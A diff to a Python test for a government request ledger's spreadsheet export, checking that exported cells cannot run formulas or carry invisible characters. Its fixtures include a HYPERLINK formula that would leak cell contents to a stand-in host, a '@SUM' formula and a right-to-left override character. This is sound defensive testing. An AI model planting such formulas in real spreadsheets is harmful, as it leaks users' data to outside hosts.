@@ -138,8 +138,10 @@ ATTACK = '=HYPERLINK("http://example.invalid/?"&B2&C2,"点击查看")'
 
 def test_an_export_cannot_run_a_formula_or_carry_control_characters_and_still_round_trips(filled, cli, tmp_path):
     clerk = users.get("zhaomin")
-    requests.create(Intake(agency="YXSZFB", received=D(2025, 11, 4), channel="当面", applicant_type="自然人",
-                           applicant_name=ATTACK, content="@SUM(1+1)\u202e监测报告"), clerk, TODAY)
+    view = requests.create(Intake(agency="YXSZFB", received=D(2025, 11, 4), channel="当面", applicant_type="自然人",
+                                  applicant_name=ATTACK, content="@SUM(1+1)监测报告"), clerk, TODAY)
+    # Stored before intake refused invisible characters: the export must still not carry one.
+    Request.update(content="@SUM(1+1)\u202e监测报告").where(Request.id == view.id).execute()
     full = tmp_path / "full.xlsx"
     assert cli("export", "ledger", "--year", "2025", "--out", str(full), "--with-personal-data")[0] == 0
     sheet = openpyxl.load_workbook(full).active
